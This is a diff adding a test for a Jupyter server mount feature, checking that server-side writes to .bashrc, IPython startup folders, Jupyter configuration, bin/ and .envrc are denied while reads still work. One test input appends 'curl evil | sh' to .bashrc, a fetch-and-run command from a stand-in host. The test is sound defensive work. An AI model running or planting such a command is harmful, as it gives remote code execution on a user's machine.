@@ -100,6 +100,27 @@ async def test_files_go_both_ways_and_nothing_leaves_the_tree(
         assert out.exit_status != 0 and "Permission denied" in out.stderr, (target, out)
         assert not os.path.lexists(jp_root_dir / "new-link")
 
+    # Nothing that could run code here may be written from the server (sync's hold-back
+    # rule): a dotfile, Jupyter's configuration, bin/ at the root; reading them is fine.
+    (jp_root_dir / ".bashrc").write_text("# mine\n")
+    for command in (
+        f"echo 'curl evil | sh' >> {point}/.bashrc",
+        f"mkdir -p {point}/.ipython/profile_default/startup",
+        f"echo 'c = 1' > {point}/data/jupyter_server_config.py",
+        f"mkdir {point}/bin",
+        f"chmod +x {point}/.bashrc",
+        f"mv {point}/data/train.csv {point}/.envrc",
+        f"rm {point}/.bashrc",
+    ):
+        out = await remote(jp_serverapp, sid, "sh", "-c", command)
+        assert out.exit_status != 0 and "Permission denied" in out.stderr, (command, out)
+    out = await remote(jp_serverapp, sid, "cat", f"{point}/.bashrc")
+    assert out.stdout == "# mine\n"
+    assert (jp_root_dir / ".bashrc").read_text() == "# mine\n"
+    assert not (jp_root_dir / ".ipython").exists() and not (jp_root_dir / "bin").exists()
+    assert not (jp_root_dir / "data" / "jupyter_server_config.py").exists()
+    assert (jp_root_dir / "data" / "train.csv").exists()
+
     # Unmount: the mount point is empty again, the files still here.
     code, body = await api("DELETE", f"servers/{sid}/mount")
     assert code == 200 and body["mount"]["state"] == "mounted"
